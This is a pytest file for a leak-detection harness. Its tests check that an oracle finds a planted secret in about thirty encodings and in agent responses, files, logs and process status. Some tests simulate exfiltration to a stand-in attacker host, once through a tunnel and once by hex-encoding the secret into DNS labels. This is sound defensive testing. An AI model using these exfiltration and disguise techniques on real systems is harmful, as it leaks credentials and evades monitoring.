"""The oracle bites: whatever is planted, in whichever place and disguise, is found."""

import base64
import gzip
import html
import json
import logging
import zlib
from collections.abc import Callable
from contextlib import closing
from functools import partial
from pathlib import Path
from urllib.parse import quote

import brotli
import pytest
import zstandard

from config.errors import UsageError
from tests.attacks.harness.agents import h2_get
from tests.attacks.harness.arena import Arena
from tests.attacks.harness.canary import find, new_canary
from tests.attacks.harness.oracle import LeakError, Oracle
from tests.attacks.harness.products import KeyhatchLane, KeyhatchProcess
from tests.attacks.harness.upstream import PlaceOfCertificates
from tests.attacks.harness.world import EVIL, HOST

DISGUISES: dict[str, Callable[[str], bytes]] = {
    "plain": str.encode,
    "Bearer": lambda s: f"Bearer {s}".encode(),
    "Basic": lambda s: base64.b64encode(f"user:{s}".encode()),
    "Basic, another length": lambda s: base64.b64encode(f"u:{s}".encode()),
    "base64": lambda s: base64.b64encode(s.encode()),
    "URL-safe base64": lambda s: base64.urlsafe_b64encode(b"ab" + s.encode()),
    "percent": lambda s: quote(s, safe="").encode(),
    "percent, every character": lambda s: "".join(f"%{ord(c):02X}" for c in s).encode(),
    "percent, twice": lambda s: quote(quote(s, safe=""), safe="").encode(),
    "JSON": lambda s: json.dumps(s).replace("/", "\\/").encode(),
    "JSON, every character": lambda s: "".join(f"\\u{ord(c):04x}" for c in s).encode(),
    "a Python literal": lambda s: "".join(f"\\x{ord(c):02x}" for c in s).encode(),
    "HTML": lambda s: "".join(f"&#{ord(c)};" for c in s).encode(),
    "HTML, names": lambda s: html.escape(s).replace("+", "&plus;").encode(),
    "hexadecimal": lambda s: s.encode().hex().encode(),
    "HEXADECIMAL": lambda s: s.encode().hex().upper().encode(),
    "upper case": lambda s: s.upper().encode(),
    "lower case": lambda s: s.lower().encode(),
    "reversed": lambda s: s[::-1].encode(),
    "UTF-16": lambda s: s.encode("utf-16-le"),
    "chunks": lambda s: b"HTTP/1.1 200 OK\r\n\r\n8\r\n" + s[:8].encode() + b"\r\n20;x=1\r\n" + s[8:].encode() + b"\r\n0\r\n\r\n",
    "gzip": lambda s: gzip.compress(s.encode()),
    "gzip of JSON": lambda s: gzip.compress(json.dumps({"a": s}).replace("/", "\\/").encode()),
    "deflate": lambda s: zlib.compress(s.encode()),
    "raw deflate": lambda s: zlib.compress(s.encode(), wbits=-15),
    "brotli": lambda s: brotli.compress(s.encode()),
    "zstd": lambda s: zstandard.ZstdCompressor().compress(s.encode()),
    "gzip in chunks": lambda s: b"HTTP/1.1 200 OK\r\n\r\n400\r\n" + gzip.compress(s.encode()),
}  # fmt: skip


@pytest.mark.parametrize("disguise", DISGUISES)
@pytest.mark.parametrize(
    "before", [b"", b"some text before it: ", b"HTTP/1.1 200 OK\r\nA: b\r\n\r\n"]
)
def test_a_canary_is_found_in_each_disguise(disguise: str, before: bytes) -> None:
    canary = new_canary()
    octets = DISGUISES[disguise](canary)
    is_stream = disguise in {"raw deflate", "brotli"} and b"\r\n" not in before
    assert find(octets if is_stream else before + octets + b" and after", canary), disguise


def test_another_canary_is_not_found() -> None:
    for disguise in DISGUISES.values():
        assert find(disguise(new_canary()), new_canary()) is None


def test_canaries_are_unique() -> None:
    assert len({new_canary() for _ in range(1000)}) == 1000


def test_an_oracle_with_nothing_planted_does_not_judge() -> None:
    with pytest.raises(AssertionError, match="nothing was planted"):
        Oracle().judge()


@pytest.fixture
def open_arena(
    tmp_path: Path, certificates: PlaceOfCertificates, printed: Callable[[], str]
) -> Arena:
    """An arena that the test itself ends and judges."""
    return Arena(tmp_path, certificates, Oracle(), partial(KeyhatchLane, printed=printed))


def assert_found(arena: Arena, where: str) -> None:
    arena.close()
    with pytest.raises(LeakError, match=where):
        arena.judge()


def test_an_honest_call_leaks_nothing(open_arena: Arena) -> None:
    with closing(open_arena):
        assert open_arena.agent().get(f"http://{HOST}/echo").status == 200
        assert open_arena.own.requests[0].one("authorization") == f"Bearer {open_arena.hub.secret}"
    open_arena.judge()


def test_what_an_agent_received_is_searched(open_arena: Arena) -> None:
    open_arena.hub.fields["scrub"] = "off"
    open_arena.agent().get(f"http://{HOST}/echo/gzip")
    assert_found(open_arena, "agent received")


def test_what_an_agent_received_over_http2_is_searched(open_arena: Arena) -> None:
    open_arena.hub.fields["scrub"] = "off"
    open_arena.tunnel_h2().call(h2_get(HOST, "/echo/headers"))
    assert_found(open_arena, "HTTP/2")


def test_what_a_foreign_upstream_received_is_searched(open_arena: Arena) -> None:
    open_arena.tunnel(f"{EVIL}:443").request("GET", f"/{open_arena.hub.secret}", "Host: x")
    assert_found(open_arena, f"{EVIL} received")


def test_what_a_connectors_upstream_received_in_clear_is_searched(open_arena: Arena) -> None:
    open_arena.hub.fields["scheme"] = "http"
    open_arena.agent().get(f"http://{HOST}/")
    assert_found(open_arena, "in clear")


def test_what_an_upstream_received_under_another_name_is_searched(open_arena: Arena) -> None:
    open_arena.internet.host("alias.example", p443=open_arena.own.port)
    agent = open_arena.agent()
    assert agent.connect("alias.example:443").status == 200
    agent.start_tls(open_arena.trust(verify=False), "alias.example")
    agent.request("GET", f"/{open_arena.hub.secret}", "Host: alias.example")
    assert_found(open_arena, "as alias.example")


def test_another_connectors_secret_is_foreign(open_arena: Arena) -> None:
    other = open_arena.connector("other", "api.other.example")
    open_arena.agent().get(f"http://{HOST}/{other.secret}")
    assert_found(open_arena, "secret 2 is in what hub received")


def test_names_that_were_resolved_are_searched(open_arena: Arena) -> None:
    label = open_arena.hub.secret.encode().hex()[:120]
    name = f"{label[:60]}.{label[60:]}.{EVIL}"
    open_arena.agent().get(f"http://{name}/")
    assert name in open_arena.internet.asked
    open_arena.internet.asked.append(open_arena.hub.secret)
    assert_found(open_arena, "DNS")


@pytest.mark.parametrize("name", ["copy", "audit/000000000001.jsonl", "run/serve.lock"])
def test_every_file_of_the_home_is_searched(open_arena: Arena, name: str) -> None:
    assert open_arena.agent().get(f"http://{HOST}/").status == 200
    open_arena.close()
    with (open_arena.lane.home.root / name).open("a") as file:
        file.write(open_arena.hub.secret)
    assert_found(open_arena, f"the file {name}")


@pytest.mark.parametrize("way", [print, logging.getLogger("any").warning])
def test_what_is_printed_and_logged_is_searched(
    open_arena: Arena, way: Callable[[str], None]
) -> None:
    assert open_arena.agent().get(f"http://{HOST}/").status == 200
    way(open_arena.hub.secret)
    assert_found(open_arena, "the log")


def test_the_status_of_a_process_is_searched(
    tmp_path: Path, certificates: PlaceOfCertificates
) -> None:
    arena = Arena(tmp_path, certificates, Oracle(), KeyhatchProcess)
    with closing(arena):
        assert arena.agent().get(f"http://{HOST}/echo").status == 200
        broken = {"version": 1, "connectors": {}, arena.hub.secret: 1}
        arena.process.service.site.write(json.dumps(broken))
        with pytest.raises(UsageError):
            arena.process.service.reload()
    with pytest.raises(LeakError, match="the status"):
        arena.judge()


def test_a_process_that_is_not_attacked_leaks_nothing(served: Arena) -> None:
    assert served.agent().get(f"http://{HOST}/echo").status == 200
    assert len(served.own.requests) == 1
